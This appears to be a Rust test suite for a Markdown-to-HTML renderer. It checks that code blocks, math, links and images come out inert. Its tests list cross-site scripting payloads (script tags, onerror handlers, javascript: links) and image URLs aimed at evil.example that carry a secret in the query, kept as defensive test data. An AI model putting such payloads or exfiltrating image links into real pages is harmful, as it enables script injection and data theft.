use super::*;

fn html(md: &str) -> String {
    render(md, &RenderOptions::default())
}

/// A tag's attributes as (name, value), values unquoted.
fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut rest = tag.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '/');
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if rest.is_empty() {
            return out;
        }
        let name_end = rest.find(|c: char| c == '=' || c.is_whitespace()).unwrap_or(rest.len());
        let name = rest[..name_end].to_string();
        rest = &rest[name_end..];
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix('=') {
            if let Some(quoted) = after.strip_prefix('"') {
                let end = quoted.find('"').expect("closed quote");
                value = quoted[..end].to_string();
                rest = &quoted[end + 1..];
            } else {
                let end = after.find(char::is_whitespace).unwrap_or(after.len());
                value = after[..end].to_string();
                rest = &after[end..];
            }
        }
        out.push((name, value));
    }
}

/// Checks that output of untrusted input can do nothing: every tag is one
/// the renderer writes, no tag has an event handler, `style` or `srcdoc`,
/// URLs are http(s)/mailto/data images, and every link opens safely. (Text
/// and attribute values may mention anything: they are escaped.)
fn assert_inert(out: &str, input: &str) {
    let lower = out.to_ascii_lowercase();
    for piece in lower.split('<').skip(1) {
        let tag = piece.split('>').next().unwrap_or("");
        for (name, value) in attributes(tag) {
            assert!(
                !name.starts_with("on") && name != "style" && name != "srcdoc",
                "attribute {name} in <{tag}> (input {input:?})"
            );
            if name == "href" || name == "src" {
                let ok = ["http://", "https://", "mailto:", "data:image/"].iter().any(|p| value.starts_with(p));
                assert!(ok, "{name}={value:?} in <{tag}> (input {input:?})");
            }
        }
        if tag.starts_with("a ") {
            assert!(tag.contains("rel=\"noopener noreferrer nofollow\""), "unsafe link <{tag}>");
        }
        let name: String = tag.trim_start_matches('/').chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
        let known = [
            "p",
            "a",
            "img",
            "em",
            "strong",
            "del",
            "code",
            "pre",
            "div",
            "span",
            "button",
            "ul",
            "ol",
            "li",
            "blockquote",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "br",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "input",
            "math",
            "mi",
            "mn",
            "mo",
            "mrow",
            "msup",
            "msub",
            "mfrac",
            "msqrt",
            "mtext",
            "mspace",
            "munderover",
            "msubsup",
            "munder",
            "mover",
            "mstyle",
            "mtable",
            "mtr",
            "mtd",
            "mpadded",
            "mphantom",
            "mroot",
            "semantics",
            "annotation",
        ];
        assert!(name.is_empty() || known.contains(&name.as_str()), "unexpected tag <{name}> in {out:?}");
    }
}

#[test]
fn commonmark_and_extensions() {
    let cases: &[(&str, &str)] = &[
        ("**bold** and *it*", "<p><strong>bold</strong> and <em>it</em></p>"),
        ("~~gone~~", "<del>gone</del>"),
        ("- [x] done\n- [ ] todo", "<input type=\"checkbox\" disabled checked aria-label=\"Done\"> done"),
        (
            "| a | b |\n|---|---|\n| 1 | 2 |",
            "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>",
        ),
        ("# Title", "<h1>Title</h1>"),
        ("> quoted", "<blockquote>"),
        ("`a < b`", "<code>a &lt; b</code>"),
        ("1. one\n2. two", "<ol>"),
    ];
    for (md, expected) in cases {
        let out = html(md);
        assert!(out.contains(expected), "{md:?} gave {out:?}");
        assert_inert(&out, md);
    }
}

#[test]
fn the_copy_button_speaks_the_page_s_language_escaped() {
    let copy = crate::CopyCode { label: "Kopieren".into(), name: "Code \"<kopieren>\"".into() };
    let out = render("```\nx\n```", &RenderOptions { copy_code: copy, ..RenderOptions::default() });
    assert!(out.contains("aria-label=\"Code &quot;&lt;kopieren&gt;&quot;\">Kopieren</button>"), "{out}");
    assert!(html("```\nx\n```").contains("aria-label=\"Copy code\">Copy</button>"));
}

#[test]
fn code_blocks_get_a_header_copy_button_and_language_class() {
    let out = html("```rust\nfn main() { println!(\"<hi>\"); }\n```");
    assert!(out.contains("<span class=\"code-lang\">rust</span>"), "{out}");
    assert!(out.contains("class=\"copy-code\""), "{out}");
    assert!(out.contains("<code class=\"language-rust\"><span class=\"hl-keyword\">fn</span> <span class=\"hl-function\">main</span>"), "{out}");
    assert!(
        out.contains("<span class=\"hl-string\">&quot;&lt;hi&gt;&quot;</span>"),
        "highlighted text is escaped: {out}"
    );
    // Code that tries to end the block or open a tag stays text, highlighted or not.
    for language in ["js", "html", "rust", "nonsense", ""] {
        let out =
            html(&format!("```{language}\n</code></pre><script>alert(1)</script><img src=x onerror=alert(1)>\n```"));
        assert_inert(&out, language);
        assert!(
            !out.contains("<script") && !out.contains("<img") && out.matches("</code>").count() == 1,
            "{language}: {out}"
        );
    }
    let out = html("```nonsense\nlet x = 1;\n```");
    assert!(
        out.contains("<code class=\"language-nonsense\">let x = 1;\n</code>"),
        "unknown languages stay plain: {out}"
    );
    // A hostile info string cannot break out of the class attribute.
    let out = html("```\"><script>alert(1)</script>\ncode\n```");
    assert_inert(&out, "info string");
    assert!(out.contains("language-scriptalert1script"), "{out}");
}

#[test]
fn unfinished_documents_render_what_they_have() {
    // Mid-stream: an open fence is code to the end, half a table is text.
    let out = html("Here:\n```python\nprint('hi')\n");
    assert!(out.contains("<code class=\"language-python\"><span class=\"hl-function\">print</span>"), "{out}");
    assert!(out.ends_with("</code></pre></div>\n"), "closed in the HTML: {out}");
    let out = html("| a | b |\n|--");
    assert!(!out.contains("<table>"), "{out}");
    let out = html("**bold without end");
    assert!(out.contains("**bold without end"), "{out}");
}

#[test]
fn malicious_input_is_inert() {
    let cases = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "inline <b onmouseover=alert(1)>hover</b> html",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java\tscript:alert(1))",
        "[click](  javascript:alert(1))",
        "[click](vbscript:msgbox)",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](<javascript:alert(1)>)",
        "[ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](x\" onerror=\"alert(1))",
        "![<img src=x onerror=alert(1)>](https://ok.example/a.png)",
        "<svg onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<style>body{display:none}</style>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "$\\text{<script>alert(1)</script>}$",
        "$$\\href{javascript:alert(1)}{x}$$",
        "<form action=https://evil.example><input name=q></form>",
        "<!-- comment --><script>x</script>",
        "\\(<img src=x onerror=alert(1)>\\)",
    ];
    for md in cases {
        let out = html(md);
        assert_inert(&out, md);
    }
    // Raw HTML is shown as text, not dropped.
    assert!(html("<b>x</b>").contains("&lt;b&gt;x&lt;/b&gt;"));
}

#[test]
fn links_and_images() {
    let out = html("[site](https://example.com/a?b=1&c=2)");
    assert!(
        out.contains("<a href=\"https://example.com/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">site</a>"),
        "{out}"
    );
    assert!(html("<https://example.com>").contains("href=\"https://example.com\""));
    assert!(html("[mail](mailto:a@example.com)").contains("href=\"mailto:a@example.com\""));
    let out = html("[rel](/local/path)");
    assert!(!out.contains("href"), "relative links are not followed: {out}");
    assert!(out.contains("rel</span>"));

    let cats = RenderOptions { image_hosts: vec!["example.com".into()], ..RenderOptions::default() };
    let out = render("![a cat](https://example.com/cat.png \"title\")", &cats);
    assert!(
        out.contains(
            "<img src=\"https://example.com/cat.png\" alt=\"a cat\" loading=\"lazy\" referrerpolicy=\"no-referrer\">"
        ),
        "{out}"
    );
    // Images from any other host load nothing: a reply cannot send the
    // conversation to a host of its choosing in an image URL.
    for outside in [
        "![x](https://evil.example/c.png?q=secret)",
        "![x](http://EXAMPLE.com.evil.example/c.png)",
        "![x](https://example.com@evil.example/c.png)",
        "![x](https://example.com\\@evil.example/c.png)",
        "![x](//evil.example/c.png)",
        "![x](https://evil.example:443/c.png)",
    ] {
        let out = render(outside, &cats);
        assert!(!out.contains("<img") && !out.contains("evil"), "{outside}: {out}");
    }
    let out = render("![x](https://Example.com:8443/c.png)", &cats);
    assert!(out.contains("<img src=\"https://Example.com:8443/c.png\""), "the port does not matter: {out}");
    assert!(!html("![a cat](https://example.com/cat.png)").contains("<img"), "no remote images by default");
    let data = "![dot](data:image/png;base64,iVBORw0KGgo=)";
    assert!(!html(data).contains("<img"), "data: images are off by default");
    let with_data = render(data, &RenderOptions { data_images: true, ..RenderOptions::default() });
    assert!(with_data.contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\""), "{with_data}");
    let svg = render(
        "![s](data:image/svg+xml;base64,PHN2Zz4=)",
        &RenderOptions { data_images: true, ..RenderOptions::default() },
    );
    assert!(!svg.contains("<img"), "SVG can carry script: {svg}");
}

#[test]
fn math_in_all_four_delimiters() {
    for md in ["$x^2$", "\\(x^2\\)"] {
        let out = html(md);
        assert!(out.contains("<math") && out.contains("<msup>"), "{md}: {out}");
        assert!(!out.contains("display=\"block\""), "{md}: {out}");
    }
    for md in ["$$\\frac{a}{b}$$", "\\[\\frac{a}{b}\\]"] {
        let out = html(md);
        assert!(out.contains("<mfrac>") && out.contains("display=\"block\""), "{md}: {out}");
    }
    // Not inside code.
    let out = html("`\\(x\\)` and\n```\n\\[y\\]\n```");
    assert!(!out.contains("<math"), "{out}");
    assert!(out.contains("\\(x\\)") && out.contains("\\[y\\]"), "{out}");
    // Delimiters can be turned off.
    let only_brackets =
        RenderOptions { math: MathDelimiters { dollars: false, brackets: true }, ..RenderOptions::default() };
    let out = render("costs $5 and $6, \\(x\\)", &only_brackets);
    assert!(out.contains("$5 and $6"), "{out}");
    assert_eq!(out.matches("<math").count(), 1, "{out}");
    let none = RenderOptions { math: MathDelimiters { dollars: false, brackets: false }, ..RenderOptions::default() };
    assert!(!render("$x$ \\(y\\)", &none).contains("<math"));
    // Half an equation mid-stream does not break anything.
    let out = html("$$\\frac{a}{");
    assert_inert(&out, "half equation");
}

#[test]
fn single_line_breaks_are_optional() {
    assert!(!html("a\nb").contains("<br"));
    let breaks = RenderOptions { line_breaks: true, ..RenderOptions::default() };
    assert!(render("a\nb", &breaks).contains("a<br />\nb"), "{}", render("a\nb", &breaks));
}

#[test]
fn the_inertness_check_itself_catches_unsafe_html() {
    for unsafe_html in [
        "<a href=\"javascript:alert(1)\" rel=\"noopener noreferrer nofollow\">x</a>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<script>alert(1)</script>",
        "<a href=\"https://x\">no rel</a>",
        "<p style=\"position:fixed\">x</p>",
    ] {
        let caught = std::panic::catch_unwind(|| assert_inert(unsafe_html, "check"));
        assert!(caught.is_err(), "the check let {unsafe_html:?} through");
    }
}
